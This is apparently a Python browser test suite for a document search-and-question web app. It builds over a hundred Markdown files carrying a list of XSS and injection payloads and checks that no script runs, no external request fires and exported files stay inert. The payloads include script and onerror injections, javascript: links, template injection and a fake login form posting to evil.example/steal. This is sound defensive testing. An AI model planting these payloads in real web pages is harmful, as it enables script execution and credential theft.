"""A hundred hostile documents, titles and questions in a real browser: no script runs, nothing leaves the origin, no form is drawn.

They are asked, searched, compared, suggested, read and taken away.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import yaml

from esnqa.indexing import build_index
from esnqa.settings import Settings

sys.path.insert(0, str(Path(__file__).parent))
from serving import ANSWERED, CHROMIUM, DESKTOP, served

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.timeout(1800),
    pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason="Chromium is missing: apt-get install chromium"),
]
PATIENCE_MS = 60_000
ASKED = 12
AT_ONCE = 15
PAYLOADS = (
    "<script>window.hurt=1</script>",
    "<img src=http://evil.example/a.png onerror=window.hurt=2>",
    "<svg/onload=window.hurt=3>",
    "<form action=http://evil.example/steal><input type=password name=pw><button>Log in</button></form>",
    "<style>@import url(http://evil.example/c.css);*{display:none}</style>",
    "<iframe srcdoc='<script>parent.hurt=4</script>'></iframe>",
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "<a href=javascript:window.hurt=5>here</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<details open ontoggle=window.hurt=6>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hurt=7></style></mglyph></math>",
    "${window.hurt=8}",
    "{{constructor.constructor('window.hurt=9')()}}",
    "![beacon](http://evil.example/b.png)",
    "[here](javascript:window.hurt=10)",
    "<object data=http://evil.example/o.swf></object>",
    "<link rel=stylesheet href=http://evil.example/l.css>",
    "\u202e<script>window.hurt=11</script>\u202c",
    "&lt;script&gt;window.hurt=12&lt;/script&gt; &#60;img src=x onerror=window.hurt=13&#62;",
    "%3Cscript%3Ewindow.hurt=14%3C/script%3E",
)
FRAMES = ("{}", '"{}', "'>{}", "</mark></p></article>{}", "-->{}")
NAMES = (
    "script",
    "img",
    "style",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "form",
    "base",
    "meta",
    "link",
    "math",
)


@dataclass(frozen=True)
class Hostile:
    """A text that would do harm if it were taken for anything but a text."""

    number: int
    text: str

    def document(self) -> str:
        """A Markdown file that has it everywhere."""
        header = {
            "title": f"Hostile {self.number} {self.text}",
            "publisher": self.text,
            "language": "en",
            "kind": self.text[:40],
            "themes": [self.text[:60]],
        }
        front = yaml.safe_dump(header, allow_unicode=True, width=10_000)
        body = f"The garden project number {self.number} of Quillbury began in 2017 with nine volunteers `{self.text}` and more."
        return f"---\n{front}---\n## Heading `{self.text}`\n\n{body}\n\n| a | b |\n| --- | --- |\n| `{self.text.replace('|', '')}` | c |\n"


HOSTILE = tuple(Hostile(n, frame.format(text)) for n, (text, frame) in enumerate(product(PAYLOADS, FRAMES)))


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    sources = folder / "documents"
    sources.mkdir()
    for one in HOSTILE:
        (sources / f"hostile-{one.number}.md").write_text(one.document(), encoding="utf-8")
    settings = Settings(index_dir=folder / "index", threads=1)
    report = build_index([str(sources)], settings)
    assert report.added == len(HOSTILE), report.failures
    with served(settings.index_dir) as address:
        yield address


class Watch:
    """What a page does that it should not."""

    def __init__(self, page: Any, address: str) -> None:
        self.page, self.address, self.wrongs = page, address, []
        page.on("request", self._requested)
        page.on("dialog", lambda dialog: (self.wrongs.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.wrongs.append(f"popup: {popup.url}"))

    def _requested(self, request: Any) -> None:
        if not request.url.startswith((self.address + "/", "data:")):
            self.wrongs.append(f"request: {request.url}")

    def check(self, where: str, inside: str) -> None:
        """Nothing ran, and below ``inside`` there is nothing but text and our own elements."""
        hurt, drawn = self.page.evaluate(
            """([inside, names]) => [
                window.hurt ?? null,
                [...document.querySelectorAll(inside)].flatMap(part => [...part.querySelectorAll('*')])
                    .filter(e => names.includes(e.localName) || [...e.attributes].some(a => a.name.startsWith('on'))
                        || /^\\s*(javascript|data|vbscript):/i.test(e.getAttribute('href') ?? ''))
                    .map(e => e.outerHTML.slice(0, 160)),
            ]""",
            [inside, list(NAMES)],
        )
        assert hurt is None, where
        assert drawn == [], where
        assert self.wrongs == [], where


def test_hostile_texts_do_nothing(address: str, browser: Any) -> None:
    assert len(HOSTILE) >= 100
    context = browser.new_context(**DESKTOP)
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    watch = Watch(page, address)
    page.goto(address)
    page.wait_for_selector("#question textarea")
    page.wait_for_selector(".welcome")
    _search(page, watch)
    _compare(page, watch)
    _look_through_the_library(page, watch)
    _ask(page, watch)
    _open_every_document(page, watch, address)
    context.close()


def _search(page: Any, watch: Watch) -> None:
    page.click("#tab-search-button")
    for one in HOSTILE:
        page.fill("#query :is(input, textarea)", f"garden {one.number} {one.text}"[:1900])
        page.evaluate("() => { for (const e of document.querySelectorAll('#found .results')) e.id = 'former'; }")
        page.keyboard.press("Enter")
        page.wait_for_function("() => !document.getElementById('former') && document.querySelector('.result')")
        watch.check(f"search {one.number}", "#found")
    page.click(".facets summary")
    page.locator("#found [data-keep]").first.click()
    page.click(".basket summary")
    watch.check("kept", ".basket")
    for form in ("md", "csv", "json", "docx"):
        with page.expect_download() as download:
            page.click(f"[data-form={form}]")
        _check_file(form, Path(download.value.path()).read_bytes())


def _compare(page: Any, watch: Watch) -> None:
    """Every document is a row of some table, sixteen at a time, and every table's first source is opened."""
    page.evaluate("() => window.scrollTo(0, 0)")
    page.click("#tab-compare-button")
    page.locator("#compare-by").get_by_label("Document", exact=True).check()
    box = page.locator("#compare-values input")
    seen = set()
    for start in range(0, len(HOSTILE), AT_ONCE):
        if start:
            page.locator("#compare-values .remove-all").click()
        for one in HOSTILE[start : start + AT_ONCE]:
            box.fill(f"Hostile {one.number} ")
            page.get_by_role("option", name=f"Hostile {one.number} ").first.wait_for()
            box.press("Enter")  # what was chosen before may lie over the list
        watch.check(f"chosen from {start}", "#compare-values")
        page.keyboard.press("Escape")
        page.fill("#compare-question :is(input, textarea)", "When did the garden project begin?")
        page.evaluate("() => document.querySelector('#compared .comparison')?.remove()")
        page.click("#compare-button")
        page.wait_for_selector("#compared .comparison")
        seen |= {" ".join(label.split()[:2]) for label in page.locator(".compared tbody th").all_inner_texts()}
        page.locator(".compared [data-open]").first.click()
        page.wait_for_selector("#compare-panel .document-text")
        watch.check(f"compared from {start}", "#compared, #compare-panel .panel-body")
        page.click("#compare-panel .panel-close")
    assert seen == {f"Hostile {one.number}" for one in HOSTILE}
    for form in ("md", "csv", "json", "docx"):
        page.click("#compare-take summary")
        with page.expect_download() as download:
            page.click(f"[data-press=table-{form}]")
        _check_file(form, Path(download.value.path()).read_bytes())


def _check_file(form: str, content: bytes) -> None:
    """A file that was taken away does nothing where it is opened: as a page, a table or a text."""
    if form == "md":
        _check_markdown(content.decode())
    elif form == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert len(rows) > 1
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    elif form == "json":
        text = content.decode()
        whole = text.startswith("{\n")  # else one object a line
        assert "Hostile" in json.dumps([json.loads(one) for one in ([text] if whole else text.splitlines())])
    else:
        _check_word(content)


def _check_markdown(text: str) -> None:
    """Rendered by a reader that lets HTML through, it holds no element but of text, and links nowhere of itself."""
    from lxml import html
    from markdown_it import MarkdownIt

    drawn = html.fromstring(f"<div>{MarkdownIt('commonmark', {'html': True}).render(text)}</div>")
    assert not [part.tag for part in drawn.iter() if part.tag in NAMES]
    links = [link for part in drawn.iter("a") for link in [part.get("href", "")]]
    assert not [link for link in links if not link.startswith(("http://", "https://")) or "evil" in link]


def _check_word(content: bytes) -> None:
    """No part of it points outside, and it says what it should."""
    import docx

    made = docx.Document(io.BytesIO(content))
    assert not [r for part in made.part.package.iter_parts() for r in part.rels.values() if r.is_external]
    assert "Hostile" in " ".join(
        [*(p.text for p in made.paragraphs), *(cell.text for t in made.tables for row in t.rows for cell in row.cells)]
    )


def _look_through_the_library(page: Any, watch: Watch) -> None:
    """Every page of the list, and every document in the panel."""
    page.evaluate("() => window.scrollTo(0, 0)")
    page.click("#tab-library-button")
    page.wait_for_selector(".library tbody tr")
    page.click(".glance summary")
    opened = 0
    while True:
        opened += _read_each(page, watch)
        if not page.locator("#library-next").is_visible():
            break
        page.evaluate("() => document.querySelector('#shelf table').remove()")
        page.click("#library-next")
        page.wait_for_selector(".library tbody tr")
    assert opened == len(HOSTILE)


def _read_each(page: Any, watch: Watch) -> int:
    count = int(page.locator(".library tbody a").count())
    for place in range(count):
        link = page.locator(".library tbody a").nth(place)
        title = " ".join(link.inner_text().split())
        link.click()
        page.wait_for_function(
            "title => document.querySelector('#library-panel .panel-document')?.textContent.split(/\\s+/).join(' ').trim() === title",
            arg=title,
        )
        watch.check(f"library {title}", "#shelf, #glance, #library-panel .panel-body")
    return count


def _ask(page: Any, watch: Watch) -> None:
    page.evaluate("() => window.scrollTo(0, 0)")
    page.click("#tab-ask-button")
    suggested = False
    for one in HOSTILE[:: len(HOSTILE) // ASKED]:
        page.fill("#question textarea", f"When did the garden project number {one.number} begin? {one.text}")
        page.click("#ask-button")
        page.wait_for_function(
            "n => document.querySelector('#live .turn[data-announce] .question')?.textContent.includes(`number ${n} `)",
            arg=one.number,
        )
        watch.check(f"asked {one.number}", "#past, #live")
        if not suggested:
            suggested = _follow(page, watch)
    assert suggested, "nothing was suggested after any question"
    for form in ("md", "json", "docx"):
        page.click("#take summary")
        with page.expect_download() as download:
            page.click(f"[data-press=take-{form}]")
        _check_file(form, Path(download.value.path()).read_bytes())


def _follow(page: Any, watch: Watch) -> bool:
    """Whether a question to go on with, which holds a hostile theme or title, is suggested; then it is asked."""
    from playwright.sync_api import TimeoutError as NothingError

    try:
        page.wait_for_selector("#live .follow-ups button", timeout=10_000)
    except NothingError:
        return False
    watch.check("suggested", "#live")
    following = page.locator("#live .follow-ups button").first.inner_text()
    assert any(one.text[:20] in following for one in HOSTILE), following
    page.locator("#live .follow-ups button").first.click()
    page.wait_for_function(ANSWERED, arg=following)
    watch.check("followed", "#past, #live")
    return True


def _open_every_document(page: Any, watch: Watch, address: str) -> None:
    for one in HOSTILE:
        reply = page.goto(f"{address}/document/hostile-{one.number}.md?start=0&end=40")
        assert reply.status == 200
        assert f"Hostile {one.number} " in page.locator("h1").inner_text()
        watch.check(f"document {one.number}", "body")
